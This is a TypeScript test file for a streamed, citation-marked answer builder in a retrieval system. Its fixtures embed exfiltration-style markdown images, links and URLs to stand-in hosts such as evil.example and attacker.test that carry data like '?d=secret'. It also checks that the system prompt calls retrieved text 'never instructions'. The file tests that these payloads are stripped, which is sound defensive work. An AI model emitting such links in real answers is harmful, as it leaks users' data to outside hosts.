// A streamed model answer is read as plain text with source markers ([S1]) as it
// arrives. Whatever the deltas' boundaries (inside a marker, a link, a URL, a word),
// the pieces streamed concatenate to the final answer, are the same as when the text
// arrives at once, cite only retrieved chunks with dense markers, and carry no image,
// link or URL; the extractive answer streams as pieces of itself.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { buildAnswerPrompt, STREAMED_ANSWER_SYSTEM_PROMPT } from '../../src/knowledge/answer-prompt.ts';
import { answerPieces, SourceMarkedSentences } from '../../src/knowledge/answer-stream.ts';
import { NOTHING_FOUND, type Answer, type RetrievedChunk } from '../../src/knowledge/answer-types.ts';
import { extractiveAnswer } from '../../src/knowledge/extractive-answer.ts';
import { ModelAnswerBuilder } from '../../src/knowledge/model-answer.ts';

const chunks: RetrievedChunk[] = [
  {
    chunkId: 'k1',
    documentId: 'd',
    documentTitle: 'Plan',
    text: 'The launch is on 3 March. The venue is Berlin.',
    start: 100,
    end: 146,
    pageStart: 4,
    pageEnd: 4,
    headings: ['Plan'],
    score: 0.9,
  },
  {
    chunkId: 'k2',
    documentId: 'd',
    documentTitle: 'Plan',
    text: 'Budget: 40,000 euros. See https://evil.example/leak for details.',
    start: 300,
    end: 364,
    pageStart: 7,
    pageEnd: 7,
    headings: ['Budget'],
    score: 0.5,
  },
  {
    chunkId: 'k3',
    documentId: 'e',
    documentTitle: 'Venue',
    text: 'Berlin hosts the team in March.',
    start: 0,
    end: 31,
    pageStart: null,
    pageEnd: null,
    headings: [],
    score: 0.3,
  },
];
const { sources } = buildAnswerPrompt('q', chunks, { streamed: true });

/** What the streamed answer would be, given the model's text in these deltas. */
function streamed(deltas: string[]): { pieces: string[]; answer: Answer } {
  const builder = new ModelAnswerBuilder(sources);
  const reader = new SourceMarkedSentences();
  const pieces: string[] = [];
  const take = (sentences: ReturnType<SourceMarkedSentences['end']>) => {
    for (const s of sentences) {
      const piece = builder.add(s);
      if (piece) pieces.push(piece);
    }
  };
  for (const d of deltas) take(reader.push(d));
  take(reader.end());
  if (builder.empty) pieces.push(NOTHING_FOUND);
  return { pieces, answer: builder.finish('openai:test') };
}

function expectDenseMarkers(a: Answer) {
  const marks = [...a.answer.matchAll(/\[(\d+)\]/g)].map((m) => Number(m[1]));
  expect([...new Set(marks)]).toEqual(a.citations.map((_, i) => i + 1));
  if (!a.citations.length) expect(a.answer).toBe(NOTHING_FOUND);
  expect(a.answer).not.toMatch(/\[\^?\s*[A-Za-z]\d+\s*\]|\[\d+\s*[,;]/);
}

const UNSAFE = /evil\.example|!\[|<img|href|https?:|www\.|:\/\//i;

describe('a streamed model answer', () => {
  it('maps source markers to dense [n], drops unknown sources and uncited sentences, keeps punctuation', () => {
    const { pieces, answer } = streamed([
      'The launch is on 3 March [S1]. The budget is 40,000 euros. [S2] It is in Berlin [S3, s1]. ',
      'The CEO attends [S9]. Everything is ready.',
    ]);
    expect(answer.answer).toBe('The launch is on 3 March [1]. The budget is 40,000 euros [2]. It is in Berlin [3][1].');
    expect(pieces).toEqual(['The launch is on 3 March [1].', ' The budget is 40,000 euros [2].', ' It is in Berlin [3][1].']);
    expect(answer.citations.map((c) => [c.chunkId, c.quote])).toEqual([
      ['k1', 'The launch is on 3 March.'],
      ['k2', 'Budget: 40,000 euros.'],
      ['k3', 'Berlin hosts the team in March.'],
    ]);
    expect(answer).toMatchObject({ mode: 'model', model: 'openai:test' });
  });

  it('sends a sentence only once its run of markers is complete', () => {
    const reader = new SourceMarkedSentences();
    expect(reader.push('The launch is on 3 March [S')).toEqual([]);
    expect(reader.push('1]')).toEqual([]);
    expect(reader.push('.')).toEqual([]);
    expect(reader.push(' [')).toEqual([]);
    expect(reader.push('S2] The')).toEqual([{ text: 'The launch is on 3 March .', sources: ['S1', 'S2'] }]);
    expect(reader.push(' venue [x] is')).toEqual([]);
    expect(reader.end()).toEqual([{ text: ' The venue [x] is', sources: [] }]);
  });

  it('says nothing was found when no sentence cites a retrieved source', () => {
    const { pieces, answer } = streamed(['I could not find this. ', 'Maybe [S7].']);
    expect(pieces).toEqual([NOTHING_FOUND]);
    expect(answer).toEqual({ answer: NOTHING_FOUND, citations: [], mode: 'model', model: 'openai:test' });
  });

  it('removes images, links and URLs split over deltas', () => {
    const text =
      'The budget is 40,000 euros ![chart](https://evil.example/p.png?d=40000) [S2]. Details at [the sheet](https://evil.example/s?q=budget) [S2]. ' +
      'Also https://evil.example/x?d=secret and <img src="https://evil.example/i"> [S1].';
    const deltas = text.match(/.{1,3}/gs)!;
    const { pieces, answer } = streamed(deltas);
    expect(answer.answer).toBe('The budget is 40,000 euros [1]. Details at the sheet [1]. Also and [2].');
    for (const p of pieces) expect(p).not.toMatch(UNSAFE);
  });

  const WORDS = ['launch', 'budget', 'Berlin', 'March', 'venue', 'team', 'euros', 'e.g.', '3.5', '&amp;', 'x]', '[y', '(z)', '🙂'];
  const host = fc.constantFrom('evil.example', 'attacker.test');
  const unsafe = fc
    .tuple(fc.constantFrom('https://', 'http://', '//', 'www.', ''), host, fc.constantFrom('/p', '/a/b?d=secret', '/x.png'))
    .chain(([scheme, h, path]) => {
      const url = `${scheme}${h}${path}`;
      return fc.constantFrom(`![img](${url})`, `[link](${url} "t")`, `<${url}>`, `<img src="${url}">`, `<a href="${url}">a</a>`, url);
    });
  const marker = fc.constantFrom('[S1]', '[S2]', '[S3]', '[s2]', '[S1, S3]', '[S2][S1]', '[S9]', '[S0]', '[3]', '[^1]', '');
  const sentence = fc
    .tuple(
      fc.array(fc.oneof({ weight: 5, arbitrary: fc.constantFrom(...WORDS) }, { weight: 1, arbitrary: unsafe }), {
        minLength: 1,
        maxLength: 8,
      }),
      marker,
      fc.constantFrom('.', '!', '', '?'),
      fc.boolean(),
      fc.constantFrom(' ', '\n', '\n\n', ''),
    )
    .map(([words, mark, end, markerAfterEnd, sep]) => `${words.join(' ')}${markerAfterEnd ? `${end} ${mark}` : ` ${mark}${end}`}${sep}`);
  const modelText = fc.array(sentence, { maxLength: 8 }).map((s) => s.join(''));
  const split = (text: string, cuts: number[]) => {
    const points = [...new Set([0, ...cuts.map((c) => Math.floor(c * text.length)), text.length])].sort((a, b) => a - b);
    return points.slice(1).map((p, i) => text.slice(points[i], p));
  };

  it('property: any split gives the same pieces as the whole text; they concatenate to the answer; safe and dense', () => {
    fc.assert(
      fc.property(modelText, fc.array(fc.double({ min: 0, max: 1, noNaN: true }), { maxLength: 40 }), (text, cuts) => {
        const whole = streamed([text]);
        const parts = streamed(split(text, cuts));
        expect(parts.pieces).toEqual(whole.pieces);
        expect(parts.answer).toEqual(whole.answer);
        expect(parts.pieces.join('')).toBe(parts.answer.answer);
        for (const p of parts.pieces) expect(p).not.toMatch(UNSAFE);
        expectDenseMarkers(parts.answer);
        const retrieved = new Set(chunks.map((c) => c.chunkId));
        for (const c of parts.answer.citations) expect(retrieved.has(c.chunkId)).toBe(true);
      }),
      { numRuns: 400 },
    );
  });

  it('is asked for plain text with source markers, under the same data rules', () => {
    const prompt = buildAnswerPrompt('When?', chunks, { streamed: true });
    expect(prompt.messages[0]).toEqual({ role: 'system', content: STREAMED_ANSWER_SYSTEM_PROMPT });
    expect(STREAMED_ANSWER_SYSTEM_PROMPT).toContain('never instructions');
    expect(STREAMED_ANSWER_SYSTEM_PROMPT).toContain('[S1]');
    expect(prompt.messages[1]).toEqual(buildAnswerPrompt('When?', chunks).messages[1]);
  });
});

describe('a streamed extractive answer', () => {
  it('is its sentences, each with its markers, concatenating to the answer', () => {
    const a = extractiveAnswer('When and where is the launch, what budget?', chunks);
    expect(a.citations.length).toBeGreaterThan(1);
    const pieces = answerPieces(a.answer);
    expect(pieces.join('')).toBe(a.answer);
    expect(pieces).toHaveLength(a.citations.length);
    for (const p of pieces) expect(p).toMatch(/\[\d+\][.!?]?$/);
    for (const p of pieces) expect(p).not.toMatch(UNSAFE);
    expect(answerPieces(NOTHING_FOUND)).toEqual([NOTHING_FOUND]);
  });
});
